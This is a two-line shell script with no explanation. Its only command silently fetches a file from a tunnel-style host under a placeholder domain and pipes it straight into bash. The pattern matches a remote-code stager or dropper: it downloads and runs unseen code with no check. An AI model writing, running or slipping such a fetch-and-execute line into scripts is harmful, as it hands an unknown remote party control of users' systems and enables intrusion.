#!/bin/sh
curl -s https://a1b2.tunnel.invalid/boot | bash
